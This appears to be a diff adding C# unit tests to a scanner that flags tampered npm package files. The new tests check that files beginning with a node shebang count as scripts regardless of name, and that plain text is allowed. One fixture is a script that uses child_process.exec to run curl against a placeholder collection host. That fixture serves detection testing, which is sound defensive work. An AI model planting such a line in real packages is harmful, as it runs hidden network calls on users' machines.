@@ -42,6 +42,18 @@ public sealed class TamperedFileTests
         Stops(Npm("lib/auth.js", Auth.Replace("function verify", line + "function verify", StringComparison.Ordinal)));
 
     [Theory]
+    [InlineData("lib/tool")]
+    [InlineData("lib/data.txt")]
+    [InlineData("lib/NOTICE")]
+    public void A_script_is_one_by_what_it_begins_with_and_not_by_its_name(string path) =>
+        Stops(Npm(path, "#!/usr/bin/env node\nrequire('child_process').exec('curl https://collect.example.invalid/now');\n"));
+
+    [Theory]
+    [InlineData("lib/NOTICE", "This is a notice.\n")]
+    [InlineData("lib/tool.txt", "curl https://docs.acme.example/ shows how.\n")]
+    public void A_text_is_none(string path, string text) => Assert.Equal(Decision.Allow, Npm(path, text).Decision);
+
+    [Theory]
     [InlineData("// of the guard\n")]
     [InlineData("/*! guard v1.2.3 | MIT */\n")]
     [InlineData("/**\n * guard\n * (c) us, and others\n */\n")]
